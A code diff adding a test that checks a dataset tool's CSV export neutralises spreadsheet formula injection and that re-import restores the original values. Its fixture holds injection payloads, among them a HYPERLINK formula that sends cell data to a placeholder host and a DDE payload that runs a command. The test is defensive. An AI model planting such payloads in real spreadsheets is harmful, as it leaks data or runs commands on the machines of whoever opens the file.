@@ -61,3 +61,44 @@ def test_two_datasets_export_to_two_folders(tmp_path: Path) -> None:
     assert (tmp_path / "out" / "school" / "persons.csv").exists()
     result = runner.invoke(app, ["export", str(tmp_path / "out"), "--dataset", "nope", "--store", store])
     assert result.exit_code == 2
+
+
+FORMULAS = {
+    "F1": "=HYPERLINK(\"http://example.invalid/?\"&A1,\"click\")",
+    "F2": "+cmd|' /C calc'!A0",
+    "F3": "-2+3",
+    "F4": "@SUM(1+1)",
+    "F5": "'=already quoted",
+    "F6": "''+twice",
+    "F7": "O'Brien",
+    "F8": "'Big D'",
+    "F9": "-",
+}
+
+
+def test_export_neutralises_formulas_and_ingest_restores_them(tmp_path: Path) -> None:
+    """The OWASP rule on the way out (a leading ' before = + - @), undone exactly on the way in."""
+    from canonical_fixtures import write_dataset
+
+    rows = [{"person_id": pid, "given_name": text, "family_name": "Marsh", "category": "suspect"} for pid, text in FORMULAS.items()]
+    locations = [{"location_id": "L1", "name": "=1+1", "kind": "hotel", "latitude": "53.72", "longitude": "-1.86"}]
+    links = [{"from_kind": "person", "from_id": "F1", "to_kind": "phone", "to_id": "+447700900123", "link": "uses_phone"}]
+    folder = write_dataset(tmp_path / "in", {"persons.csv": rows, "locations.csv": locations, "links.csv": links})
+    with open_store(tmp_path / "a") as a, open_store(tmp_path / "b") as b:
+        ingest(a, folder, dataset="case")
+        export(a, tmp_path / "out")
+        for file in (tmp_path / "out" / "case").glob("*.csv"):
+            cells = [cell for line in pd.read_csv(file, dtype=str, keep_default_na=False).itertuples(index=False) for cell in line]
+            risky = [c for c in cells if c[:1] in ("=", "+", "-", "@") and not c.lstrip("+-").replace(".", "", 1).isdigit()]
+            assert risky == [], (file.name, risky)
+        text = (tmp_path / "out" / "case" / "persons.csv").read_text(encoding="utf-8")
+        assert "\"'=HYPERLINK" in text and "'=already quoted" in text and "''+twice" in text and "O'Brien" in text
+        assert "-1.86" in (tmp_path / "out" / "case" / "locations.csv").read_text(encoding="utf-8")
+        report = ingest(b, tmp_path / "out" / "case", dataset="case")
+        assert report.quarantined == 0
+        names = dict(zip(b.nodes("Person")["id"], b.nodes("Person")["given_name"], strict=True))
+        # a file's leading ' before a formula character is a spreadsheet's text mark: F5 and F6 were
+        # read without it the first time, as a spreadsheet shows them, and come back the same
+        assert names == {**FORMULAS, "F5": "=already quoted", "F6": "'+twice"}
+        assert b.nodes("Location")["name"].tolist() == ["=1+1"]
+        _assert_same_graph(a, b)
